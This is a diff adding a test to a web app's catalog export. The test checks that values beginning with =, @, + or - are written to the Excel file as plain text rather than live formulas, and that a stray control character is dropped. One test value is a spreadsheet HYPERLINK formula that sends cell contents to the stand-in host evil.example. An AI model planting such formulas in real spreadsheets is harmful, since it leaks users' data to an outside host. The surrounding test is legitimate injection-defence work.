@@ -86,6 +86,34 @@ def test_published_catalog_exports_to_excel_and_pdf_for_everyone(people, draft):
     assert pdf["Content-Type"] == "application/pdf" and pdf.content.startswith(b"%PDF")
 
 
+def test_the_public_export_writes_formulas_and_control_characters_as_harmless_text(people, draft):
+    """A title that is a formula stays text in the workbook (it shows as typed and does not run), and
+    a control character (public listing A2-0195 has \\x02) is dropped instead of failing the export."""
+    hq = people["hq_operator"]
+    title = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
+    services.add_guidance_entry(
+        draft, AchievementFactory(title=title), reason="=1+1", application_scenario="@SUM(A1)", by=hq
+    )
+    services.add_guidance_entry(
+        draft,
+        AchievementFactory(title="钕铁硼\x02磁体回收"),
+        reason="-负压",
+        application_scenario="+扩产",
+        by=hq,
+    )
+    services.publish_guidance_catalog(draft, by=hq)
+    response = Client().get(f"/guidance/{draft.year}/export.xlsx")
+    assert response.status_code == 200
+    sheet = load_workbook(BytesIO(response.content)).active
+    rows = list(sheet.iter_rows(min_row=4))
+    cells = {cell.value: cell.data_type for row in rows for cell in row}
+    for text in (title, "=1+1", "@SUM(A1)", "-负压", "+扩产"):
+        assert cells[text] == "s", text  # a string cell: no formula
+    assert "钕铁硼磁体回收" in cells
+    assert not any(row[0].data_type == "f" for row in rows)
+    assert isinstance(rows[0][0].value, int)  # figures stay numbers
+
+
 def test_guidance_api_walk(people):
     from rest_framework.test import APIClient
 
